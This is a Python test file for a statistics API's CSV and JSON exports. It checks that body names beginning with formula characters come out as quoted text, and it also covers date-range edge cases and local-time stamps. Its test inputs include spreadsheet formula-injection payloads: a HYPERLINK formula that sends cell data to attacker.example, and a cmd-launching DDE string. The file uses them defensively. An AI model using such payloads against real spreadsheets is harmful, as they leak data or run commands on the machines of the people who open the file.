"""Statistics and their exports on the edges: what a spreadsheet makes of a name, and dates at the
ends of what a date can be."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from tests.test_stats import _overview

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://attacker.example/?d="&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3 调解委员会",
        "@SUM(1,2) 调解委员会",
        "\t=1+1 调解委员会",
    ],
)
async def test_a_body_name_read_as_a_formula_is_written_as_text_in_the_csv(api, name):
    # The registry administrator names bodies; a spreadsheet opening the county's export would run
    # a name starting with =, +, -, @ (or a tab or carriage return before one) as a formula.
    current = await api.client.get(f"/v1/bodies/{api.bodies['village']}", headers=api.auth("admin"))
    renamed = await api.client.patch(
        f"/v1/bodies/{api.bodies['village']}",
        json={"name": name},
        headers={**api.auth("admin"), "If-Match": current.headers["etag"]},
    )
    assert renamed.status_code == 200, renamed.text
    await api.drive("assigned")
    window = {"from": api.today.isoformat(), "to": api.today.isoformat()}

    response = await api.client.get(
        "/v1/stats/overview", params={**window, "format": "csv"}, headers=api.auth("supervisor")
    )
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    body_rows = [row for row in rows if row[0] == "body" and row[1] == str(api.bodies["village"])]
    assert len(body_rows) == 1
    label = body_rows[0][2]
    assert not label.startswith(FORMULA_STARTS), label
    assert label == "'" + name  # the name itself, shown as text
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row

    # The JSON is no spreadsheet: it keeps the name as it is.
    overview = await _overview(api, api.auth("supervisor"), **window)
    assert {b["key"]: b["label"] for b in overview["by_body"]}[str(api.bodies["village"])] == name


@pytest.mark.parametrize("path", ["overview", "trend"])
@pytest.mark.parametrize("last", ["0001-01-01", "0001-01-29", "1989-12-31"])
async def test_a_last_day_before_any_case_is_a_problem_not_a_crash(api, path, last):
    # The default first day is 29 days before `to`; before 1 February of year 1 there is none.
    response = await api.client.get(f"/v1/stats/{path}", params={"to": last}, headers=api.auth("supervisor"))
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    error = response.json()["errors"][0]
    assert (error["field"], error["code"]) == ("to", "date_out_of_range")


async def test_a_last_day_near_the_earliest_gives_the_days_from_the_earliest(api):
    # `to` alone, a few days after the earliest day: the default range starts at the earliest day
    # instead of refusing a `from` the caller never sent.
    response = await api.client.get(
        "/v1/stats/trend", params={"to": "1990-01-05", "interval": "day"}, headers=api.auth("supervisor")
    )
    assert response.status_code == 200, response.text
    trend = response.json()
    assert (trend["from"], trend["to"]) == ("1990-01-01", "1990-01-05")
    assert [p["period"] for p in trend["periods"]] == [f"1990-01-0{d}" for d in range(1, 6)]


async def test_the_csv_says_when_its_figures_are_as_of_in_the_centers_local_time(api):
    # 01:30 on 2 June in Beijing is still 1 June in UTC: a sheet saying "as of 1 June" under a range
    # ending 2 June reads as if the last day were left out.
    api.app.state.clock.at = datetime(2026, 6, 1, 17, 30, tzinfo=UTC)
    await api.intake()
    response = await api.client.get(
        "/v1/stats/overview", params={"format": "csv"}, headers=api.auth("supervisor")
    )
    assert response.status_code == 200
    meta = {row[1]: row[2] for row in _csv_rows(response.content) if row[0] == "meta"}
    assert meta["to"] == "2026-06-02"
    assert meta["as_of"] == "2026-06-02T01:30:00+08:00"
    assert datetime.fromisoformat(meta["as_of"]) == api.app.state.clock.now()
    # The JSON states the same instant in UTC, as the contract has it.
    overview = await _overview(api, api.auth("supervisor"))
    assert datetime.fromisoformat(overview["as_of"]) == api.app.state.clock.now()
